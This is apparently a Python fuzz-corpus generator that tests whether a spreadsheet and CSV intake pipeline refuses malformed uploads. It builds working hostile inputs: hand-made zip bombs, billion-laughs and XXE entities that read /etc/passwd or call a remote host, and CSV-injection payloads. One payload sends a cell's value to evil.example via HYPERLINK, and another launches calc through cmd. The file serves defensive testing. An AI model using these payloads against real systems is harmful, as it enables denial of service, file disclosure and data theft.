"""A corpus of malformed inputs for intake, generated (seeded, so the same every run) rather than committed.

``cases()`` returns more than 1,000 of them: truncated and bit-flipped workbooks and CSV files, zip bombs
(a member inflating to gigabytes, honest or lying about its size; many members; nested; overlapping),
entity expansion and external entities in the sheet and shared-strings XML, sparse giant ranges, wrong
encodings, huge cells, 100,000-column rows, formula and CSV-injection payloads, deeply nested and
huge-number JSON, empty files, legacy and encrypted compound files, and files with the wrong extension.

None of them may be stored: rows carry enterprises the test store does not register (so even a file the
damage left readable is refused), except the injection payloads, which must be refused for themselves.

``python tests/fuzz/corpus.py DIR`` writes them to DIR, to feed them to another tool.
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import json
import random
import struct
import sys
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

import xlsxwriter

SEED = 20261201
HEADER = ["统一社会信用代码", "企业名称", "高新区代码", "营业收入", "利润总额", "净利润", "资产总计", "年末从业人员",
          "R&D人员", "本科及以上学历人员", "技术收入"]
INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "@SUM(1)", "+1-1", "-2+3", "=1+1",
              " =cmd|' /C calc'!A0", "\t=1", "＋1", "-1+1", "＝1+1", "＠SUM(1)"]


@dataclass(frozen=True)
class Case:
    family: str
    name: str  # the file name it is submitted under: its extension may lie
    data: bytes


def credit_code(n: int, division: str = "110108") -> str:
    from hizone.registry import check_character

    first17 = f"91{division}{n:09d}"
    return first17 + check_character(first17)


def rows(codes: Sequence[str]) -> list[list[object]]:
    return [[code, f"企业{i + 1}", ["Z1101", "Z1102", "Z3101"][i % 3], 1000 * (i + 1), 100, 80, 5000, 50 + i, 10, 30,
             200] for i, code in enumerate(codes)]


def unregistered(count: int = 6) -> list[list[object]]:
    """Rows of valid-looking enterprises in no registry (division 990000 is nobody's), in a zone that does not
    exist (Z9901): a report registers the enterprises it does not know, so it is the zone that keeps a file
    refused when a flipped bit or a cut leaves it well formed."""
    return [[code, name, "Z9901", *values] for code, name, _zone, *values in
            rows([credit_code(i + 1, "990000") for i in range(count)])]


def csv_of(table: Sequence[Sequence[object]], header: Sequence[str] = HEADER, encoding: str = "utf-8") -> bytes:
    lines = [",".join(header)] + [",".join(_csv_cell(v) for v in row) for row in table]
    return ("\n".join(lines) + "\n").encode(encoding)


def _csv_cell(value: object) -> str:
    text = str(value)
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text


def xlsx_of(table: Sequence[Sequence[object]], header: Sequence[str] = HEADER) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_numbers": False, "strings_to_formulas": False})
    book.set_properties({"created": dt.datetime(2024, 1, 1)})  # no timestamp of today: the same bytes every run
    sheet = book.add_worksheet("企业年报")
    sheet.write_row(0, 0, list(header))
    for r, row in enumerate(table, start=1):
        for c, value in enumerate(row):
            if isinstance(value, str):
                sheet.write_string(r, c, value)
            else:
                sheet.write_number(r, c, float(value))  # type: ignore[arg-type]
    book.close()
    return buffer.getvalue()


# ---- zip archives made by hand: sizes, methods and offsets exactly as a hostile file has them ----------------


@dataclass(frozen=True)
class Member:
    name: str
    packed: bytes  # as stored in the archive (deflated unless method is 0)
    size: int  # the unpacked size the directory declares
    crc: int = 0
    method: int = 8


def zip_of(members: Sequence[Member], shared_data: bool = False) -> bytes:
    """An archive with the members' local headers, data and central directory; with ``shared_data``, every
    directory entry points at the first member's data (overlapping members)."""
    out = io.BytesIO()
    offsets = []
    for m in members:
        offsets.append(out.tell())
        name = m.name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0x800, m.method, 0, 0, m.crc, len(m.packed), m.size,
                              len(name), 0) + name + m.packed)
        if shared_data:
            break
    directory = out.tell()
    for i, m in enumerate(members):
        name = m.name.encode()
        out.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0x800, m.method, 0, 0, m.crc, len(m.packed),
                              m.size, len(name), 0, 0, 0, 0, 0, offsets[0] if shared_data else offsets[i]) + name)
    end = out.tell()
    count = min(len(members), 0xFFFF)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, end - directory, directory, 0))
    return out.getvalue()


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def zeros_deflated(gib: float) -> bytes:
    """A raw deflate stream inflating to ``gib`` GiB of zeros, made from one 16 MiB block repeated (a full
    flush makes the blocks independent), so generating it costs milliseconds."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(16 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * int(gib * 64) + b"\x03\x00"  # the final, empty fixed-Huffman block


def workbook_members(sheet_xml: bytes, shared_xml: bytes | None = None, workbook_xml: bytes | None = None,
                     extra: Sequence[Member] = ()) -> list[Member]:
    """The parts of a minimal valid workbook around the given sheet XML."""
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel_ns = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                       b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": workbook_xml or (b'<?xml version="1.0"?><workbook ' + ns + b" " + rel_ns + b'><sheets>'
                                            b'<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                      b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                                      b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                                      b'Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    if shared_xml is not None:
        parts["xl/sharedStrings.xml"] = shared_xml
    return [Member(name, deflated(data), len(data), zlib.crc32(data)) for name, data in parts.items()] + list(extra)


def sheet_xml(cells: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0"?>{prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
            f'main"><sheetData>{cells}</sheetData></worksheet>').encode()


def header_row_xml() -> str:
    from hizone.intake.headers import column_letter

    cells = "".join(f'<c r="{column_letter(i)}1" t="inlineStr"><is><t>{escape(label)}</t></is></c>'
                    for i, label in enumerate(HEADER))
    return f'<row r="1">{cells}</row>'


def data_row_xml(row: int, code: str) -> str:
    return (f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>{code}</t></is></c>'
            f'<c r="D{row}"><v>100</v></c></row>')


# ---- the families ------------------------------------------------------------------------------------------


def truncated(rng: random.Random, base: bytes, count: int, suffix: str) -> Iterator[Case]:
    for i in range(count):
        cut = 0 if i == 0 else rng.randrange(1, len(base) - 1)
        yield Case(f"truncated{suffix}", f"truncated-{i}{suffix}", base[:cut])


def bit_flipped(rng: random.Random, base: bytes, count: int, suffix: str) -> Iterator[Case]:
    for i in range(count):
        data = bytearray(base)
        for _ in range(rng.choice((1, 1, 2, 4, 16))):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        yield Case(f"bit-flipped{suffix}", f"flipped-{i}{suffix}", bytes(data))


def zip_bombs() -> Iterator[Case]:
    sheet = sheet_xml(header_row_xml() + data_row_xml(2, credit_code(1, "990000")))
    honest = zeros_deflated(2)
    yield Case("zip-bomb", "bomb-honest.xlsx",
               zip_of(workbook_members(sheet, extra=[Member("xl/media/zeros.bin", honest, 2 << 30)])))
    yield Case("zip-bomb", "bomb-lying.xlsx",
               zip_of(workbook_members(sheet, extra=[Member("xl/media/zeros.bin", honest, 1000)])))
    lying_sheet = [m if m.name != "xl/worksheets/sheet1.xml" else Member(m.name, zeros_deflated(1), 5000)
                   for m in workbook_members(sheet)]
    yield Case("zip-bomb", "bomb-in-the-sheet.xlsx", zip_of(lying_sheet))
    for count in (10_000, 70_000):
        many = [Member(f"xl/media/m{i}.bin", deflated(b"x"), 1, zlib.crc32(b"x")) for i in range(count)]
        yield Case("zip-bomb", f"members-{count}.xlsx", zip_of(workbook_members(sheet, extra=many)))
    inner = zip_of([Member("zeros.bin", honest, 2 << 30)])
    nested = zip_of([Member("inner.zip", inner, len(inner), zlib.crc32(inner), 0)])
    yield Case("zip-bomb", "nested.xlsx",
               zip_of(workbook_members(sheet, extra=[Member("xl/embeddings/nested.zip", nested, len(nested),
                                                            zlib.crc32(nested), 0)])))
    yield Case("zip-bomb", "nested-bare.xlsx", nested)
    one_gib = zeros_deflated(0.25)
    overlapping = [Member(f"xl/worksheets/sheet{i}.xml", one_gib, 256 << 20) for i in range(1, 9)]
    yield Case("zip-bomb", "overlapping.xlsx", zip_of(overlapping, shared_data=True))


def xml_attacks() -> Iterator[Case]:
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
    external = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/evil">]>'
    parameter = '<!DOCTYPE foo [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
    code = credit_code(1, "990000")
    for label, prolog, reference in (("laughs", laughs, "&lol9;"), ("external", external, "&xxe;"),
                                     ("remote", remote, "&xxe;"), ("parameter", parameter, "x")):
        body = header_row_xml() + (f'<row r="2"><c r="A2" t="inlineStr"><is><t>{code}</t></is></c>'
                                   f'<c r="B2" t="inlineStr"><is><t>{reference}</t></is></c></row>')
        yield Case("xml", f"sheet-{label}.xlsx", zip_of(workbook_members(sheet_xml(body, prolog))))
        shared = (f'<?xml version="1.0"?>{prolog}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                  f'main"><si><t>{reference}</t></si>' + "".join(f"<si><t>{escape(h)}</t></si>" for h in HEADER)
                  + "</sst>").encode()
        cells = "".join(f'<c r="{chr(65 + i)}1" t="s"><v>{i + 1}</v></c>' for i in range(len(HEADER)))
        body = f'<row r="1">{cells}</row><row r="2"><c r="A2" t="s"><v>0</v></c></row>'
        yield Case("xml", f"shared-{label}.xlsx", zip_of(workbook_members(sheet_xml(body), shared)))
        workbook = (f'<?xml version="1.0"?>{prolog}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                    f'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                    f'<sheets><sheet name="{reference}" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()
        yield Case("xml", f"workbook-{label}.xlsx",
                   zip_of(workbook_members(sheet_xml(header_row_xml()), workbook_xml=workbook)))
    yield Case("xml", "not-xml.xlsx", zip_of(workbook_members(b"\x00\xff<worksheet><sheetData><row")))
    yield Case("xml", "unclosed.xlsx", zip_of(workbook_members(sheet_xml(header_row_xml())[:-30])))


def sparse_ranges() -> Iterator[Case]:
    code = credit_code(1, "990000")
    for ref in ("XFD1048576", "XFD1", "ZZ1048576", "AAA500000"):
        letters = ref.rstrip("0123456789")
        number = ref[len(letters):]
        far_cell = f'<c r="{ref}"><v>1</v></c>'
        far = f'<row r="{number}">{far_cell}</row>' if number != "1" else ""
        header = header_row_xml() if number != "1" else header_row_xml().replace("</row>", far_cell + "</row>")
        yield Case("sparse", f"sparse-{ref}.xlsx",
                   zip_of(workbook_members(sheet_xml(header + data_row_xml(2, code) + far))))
    dimension = sheet_xml(header_row_xml() + data_row_xml(2, code)).replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    yield Case("sparse", "dimension-lies.xlsx", zip_of(workbook_members(dimension)))
    no_refs = sheet_xml("<row><c><v>1</v></c></row>" * 5 + header_row_xml())
    yield Case("sparse", "cells-without-references.xlsx", zip_of(workbook_members(no_refs)))


def encodings(rng: random.Random) -> Iterator[Case]:
    text = csv_of(unregistered()).decode()
    yield Case("encoding", "gbk-as-utf8.csv", text.encode("gbk"))
    yield Case("encoding", "gb18030.csv", text.encode("gb18030"))
    for codec, bom in (("utf-16-le", codecs.BOM_UTF16_LE), ("utf-16-be", codecs.BOM_UTF16_BE)):
        yield Case("encoding", f"{codec}-bom.csv", bom + text.encode(codec))
        yield Case("encoding", f"{codec}-no-bom.csv", text.encode(codec))
    yield Case("encoding", "utf-32.csv", text.encode("utf-32"))
    yield Case("encoding", "utf8-bom.csv", codecs.BOM_UTF8 + text.encode())
    yield Case("encoding", "big5.csv", text.encode("big5", errors="replace"))
    yield Case("encoding", "latin1-header.csv", text.encode("gb18030").decode("latin-1").encode("utf-8"))
    base = text.encode()
    for i in range(30):
        data = bytearray(base)
        for _ in range(rng.randrange(1, 6)):
            data.insert(rng.randrange(len(data)), rng.choice((0x80, 0xC0, 0xFF, 0xFE, 0xED, 0xF4, 0x00)))
        yield Case("encoding", f"invalid-bytes-{i}.csv", bytes(data))
    yield Case("encoding", "lone-surrogate.csv", base.replace("企业1".encode(), b"\xed\xa0\x80"))
    yield Case("encoding", "nul-bytes.csv", base.replace(b",", b"\x00,"))


def huge_cells() -> Iterator[Case]:
    big = "A" * (50 << 20)
    table = unregistered(2)
    table[0][1] = big
    yield Case("huge-cell", "huge-name.csv", csv_of(table))
    table = unregistered(2)
    table[1][3] = "9" * (50 << 20)
    yield Case("huge-cell", "huge-number.csv", csv_of(table))
    # 8 MB in a workbook: the header search normalises every cell of the first rows, ~0.3 s a megabyte
    body = header_row_xml() + (f'<row r="2"><c r="A2" t="inlineStr"><is><t>{credit_code(1, "990000")}</t></is></c>'
                               f'<c r="B2" t="inlineStr"><is><t>{big[:8 << 20]}</t></is></c></row>')
    yield Case("huge-cell", "huge-name.xlsx", zip_of(workbook_members(sheet_xml(body))))
    yield Case("huge-cell", "unterminated-quote.csv", csv_of(unregistered(2)) + b'"' + b"x" * (8 << 20))


def wide_rows() -> Iterator[Case]:
    code = credit_code(1, "990000")
    yield Case("wide", "wide-row.csv", (",".join(HEADER) + "\n" + ",".join([code] + ["1"] * 100_000) + "\n").encode())
    yield Case("wide", "wide-header.csv",
               (",".join(HEADER + [f"extra{i}" for i in range(100_000)]) + "\n" + code + ",x\n").encode())
    yield Case("wide", "wide-header-20000.csv",
               (",".join(HEADER + [f"extra{i}" for i in range(20_000)]) + "\n" + code + ",x\n").encode())
    cells = "".join(f'<c r="{_letters(i)}2"><v>1</v></c>' for i in range(16_384))
    body = header_row_xml() + f'<row r="2">{cells}</row>'
    yield Case("wide", "wide-row.xlsx", zip_of(workbook_members(sheet_xml(body))))
    yield Case("wide", "many-delimiters.csv", (",".join(HEADER) + "\n" + code + ("," * 100_000) + "\n").encode())


def _letters(index: int) -> str:
    from hizone.intake.headers import column_letter

    return column_letter(index)


def injections(registered: Sequence[str]) -> Iterator[Case]:
    """Payloads in the name and in numeric columns of otherwise valid rows of registered enterprises."""
    for i, payload in enumerate(INJECTIONS):
        for column, label in ((1, "name"), (3, "revenue"), (7, "employees")):
            table = rows(registered)
            table[i % len(table)][column] = payload
            yield Case("injection", f"injection-{label}-{i}.csv", csv_of(table))
            yield Case("injection", f"injection-{label}-{i}.xlsx", xlsx_of(table))
        table = rows(registered)
        table[0][2] = payload
        yield Case("injection", f"injection-zone-{i}.csv", csv_of(table))
    table = rows(registered)
    table[0][0] = "=" + str(table[0][0])
    yield Case("injection", "injection-code.csv", csv_of(table))


def json_attacks(rng: random.Random) -> Iterator[Case]:
    code = credit_code(1, "990000")
    record = {"统一社会信用代码": code, "企业名称": "企业1", "高新区代码": "Z1101", "营业收入": 1}
    for depth in (1_000, 100_000, 1_000_000):
        yield Case("json", f"nested-list-{depth}.json", b"[" * depth + b"]" * depth)
        yield Case("json", f"nested-object-{depth}.json", b'{"rows":' * depth + b"[]" + b"}" * depth)
    for digits in (5_000, 1_000_000):
        yield Case("json", f"huge-int-{digits}.json",
                   json.dumps({"rows": [record | {"营业收入": 0}]}).replace('"营业收入": 0',
                                                                       '"营业收入": ' + "9" * digits).encode())
    for literal in ("1e999999", "-1e999999", "NaN", "Infinity", "1" + "0" * 400 + ".5", "-0", "0x10", "1_000"):
        text = json.dumps({"rows": [record]}, ensure_ascii=False).replace('"营业收入": 1', f'"营业收入": {literal}')
        yield Case("json", f"number-{literal[:12]}.json", text.encode())
    shapes: list[object] = [{"rows": "x"}, {"rows": [1, 2]}, {"columns": HEADER, "rows": [[1]]}, [None], "text", 42,
                            {"rows": [record | {"营业收入": {"a": 1}}]}, {"rows": [record | {"营业收入": [1, 2]}]},
                            {"rows": [record | {"营业收入": True}]}, {"rows": [{}]}, {"rows": []}, {},
                            {"columns": [], "rows": []}, {"columns": [{"a": 1}], "rows": [[1]]}]
    for i, shape in enumerate(shapes):
        yield Case("json", f"shape-{i}.json", json.dumps(shape, ensure_ascii=False).encode())
    many_keys = {"rows": [record | {f"k{i}": i for i in range(20_000)}]}
    yield Case("json", "many-keys.json", json.dumps(many_keys, ensure_ascii=False).encode())
    good = json.dumps({"rows": [record] * 3}, ensure_ascii=False).encode()
    for i in range(10):
        cut = rng.randrange(1, len(good) - 1)
        yield Case("json", f"truncated-{i}.json", good[:cut])
    yield Case("json", "utf16.json", json.dumps({"rows": [record]}).encode("utf-16"))
    yield Case("json", "duplicate-keys.json", b'{"rows": [{"a": 1, "a": 2}], "rows": 5}')


def empties() -> Iterator[Case]:
    for suffix in (".csv", ".xlsx", ".json", ".xls", ""):
        for label, data in (("empty", b""), ("space", b"   "), ("newlines", b"\n\r\n\n"), ("bom", codecs.BOM_UTF8),
                            ("nul", b"\x00" * 64)):
            yield Case("empty", f"{label}{suffix or '-no-extension'}", data)
    yield Case("empty", "header-only.csv", csv_of([]))
    yield Case("empty", "header-only.xlsx", xlsx_of([]))
    yield Case("empty", "blank-rows.csv", csv_of([[""] * len(HEADER)] * 5))
    yield Case("empty", "empty-zip.xlsx", zip_of([]))
    yield Case("empty", "no-sheets.xlsx", zip_of(workbook_members(sheet_xml(""))[:3]))


def compound_files(rng: random.Random) -> Iterator[Case]:
    magic = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield Case("cfb", "legacy.xls", magic + bytes(504) + rng.randbytes(4096))
    encrypted = "EncryptedPackage".encode("utf-16-le")
    yield Case("cfb", "encrypted.xlsx", magic + bytes(504) + encrypted + rng.randbytes(4096))
    yield Case("cfb", "legacy-named-csv.csv", magic + rng.randbytes(2048))
    yield Case("cfb", "magic-only.xls", magic)
    for i in range(6):
        yield Case("cfb", f"cfb-noise-{i}.xls", magic + rng.randbytes(rng.randrange(16, 20_000)))
    yield Case("cfb", "zip-encrypted-flag.xlsx", _with_flag(zip_of(workbook_members(sheet_xml(header_row_xml())))))
    yield Case("cfb", "macros.xlsm", zip_of(workbook_members(sheet_xml(header_row_xml()),
                                                             extra=[Member("xl/vbaProject.bin", deflated(b"VBA"), 3,
                                                                           zlib.crc32(b"VBA"))])))


def _with_flag(archive: bytes) -> bytes:
    """Every member marked encrypted (general-purpose flag bit 0) in both headers."""
    data = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def wrong_extensions(csv_data: bytes, xlsx_data: bytes, rng: random.Random) -> Iterator[Case]:
    json_data = json.dumps({"rows": [{"统一社会信用代码": credit_code(1, "990000")}]}, ensure_ascii=False).encode()
    png = b"\x89PNG\r\n\x1a\n" + rng.randbytes(512)
    pdf = b"%PDF-1.7\n" + rng.randbytes(512)
    gzip_data = b"\x1f\x8b\x08\x00" + rng.randbytes(256)
    for data, label in ((csv_data, "csv"), (xlsx_data, "xlsx"), (json_data, "json"), (png, "png"), (pdf, "pdf"),
                        (gzip_data, "gz")):
        for suffix in (".csv", ".xlsx", ".json", ".xls", ".txt"):
            if suffix != f".{label}":
                yield Case("extension", f"{label}-as{suffix}", data)


def garbage(rng: random.Random, count: int) -> Iterator[Case]:
    for i in range(count):
        prefix = rng.choice((b"", b"PK\x03\x04", b"PK", b"{", b"[", b"\xef\xbb\xbf", ",".join(HEADER).encode() + b"\n"))
        yield Case("garbage", f"garbage-{i}{rng.choice(('.csv', '.xlsx', '.json'))}",
                   prefix + rng.randbytes(rng.randrange(1, 8192)))


def cases(registered: Sequence[str] = (), seed: int = SEED) -> list[Case]:
    """The whole corpus; ``registered`` are enterprises the store knows (for the injection payloads)."""
    rng = random.Random(seed)
    csv_base, xlsx_base = csv_of(unregistered()), xlsx_of(unregistered())
    known = list(registered) or [credit_code(i + 1) for i in range(5)]
    families: list[Callable[[], Iterator[Case]]] = [
        lambda: truncated(rng, xlsx_base, 220, ".xlsx"), lambda: bit_flipped(rng, xlsx_base, 260, ".xlsx"),
        lambda: truncated(rng, csv_base, 120, ".csv"), lambda: bit_flipped(rng, csv_base, 150, ".csv"),
        zip_bombs, xml_attacks, sparse_ranges, lambda: encodings(rng), huge_cells, wide_rows,
        lambda: injections(known), lambda: json_attacks(rng), empties, lambda: compound_files(rng),
        lambda: wrong_extensions(csv_base, xlsx_base, rng), lambda: garbage(rng, 60)]
    return [case for family in families for case in family()]


def main(target: str) -> None:
    root = Path(target)
    root.mkdir(parents=True, exist_ok=True)
    for case in cases():
        (root / case.family).mkdir(exist_ok=True)
        (root / case.family / case.name).write_bytes(case.data)
    print(f"{len(cases())} files written to {root}")


if __name__ == "__main__":
    main(sys.argv[1])
